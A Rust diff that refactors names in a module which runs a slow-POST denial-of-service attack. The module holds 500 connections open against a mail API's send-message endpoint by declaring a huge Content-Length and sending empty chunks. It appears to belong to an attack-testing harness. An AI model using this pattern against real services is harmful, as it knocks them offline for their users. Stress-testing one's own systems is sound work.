@@ -3,20 +3,20 @@
 use std::sync::Arc;
 
 use super::connection::head;
-use super::scene::Scene;
-use super::slow::{self, Slow};
+use super::scene::AttackContext;
+use super::slow::{self, SlowConnections};
 
-const ANONYMOUS: usize = 400;
+const ANONYMOUS_CONNECTIONS: usize = 400;
 /// Number of connections of the one user.
-const OWN: usize = 100;
+const USER_CONNECTIONS: usize = 100;
 
 /// Runs the attack until it is over.
-pub async fn run(scene: &Arc<Scene>) -> anyhow::Result<()> {
+pub async fn run(scene: &Arc<AttackContext>) -> anyhow::Result<()> {
     let more = "Content-Type: application/json\r\nContent-Length: 37748736\r\n\r\n";
     let kind = |name, connections, token| {
         let opening = head("POST", "/mail/v1/users/me/messages", token, more);
-        Slow { name, connections, opening, piece: b"" }
+        SlowConnections { name, connections, opening, chunk: b"" }
     };
-    let own = kind("own", OWN, Some(&*scene.orders.token));
-    slow::run_all(scene, vec![kind("anonymous", ANONYMOUS, None), own]).await
+    let own = kind("own", USER_CONNECTIONS, Some(&*scene.orders.token));
+    slow::run_all(scene, vec![kind("anonymous", ANONYMOUS_CONNECTIONS, None), own]).await
 }
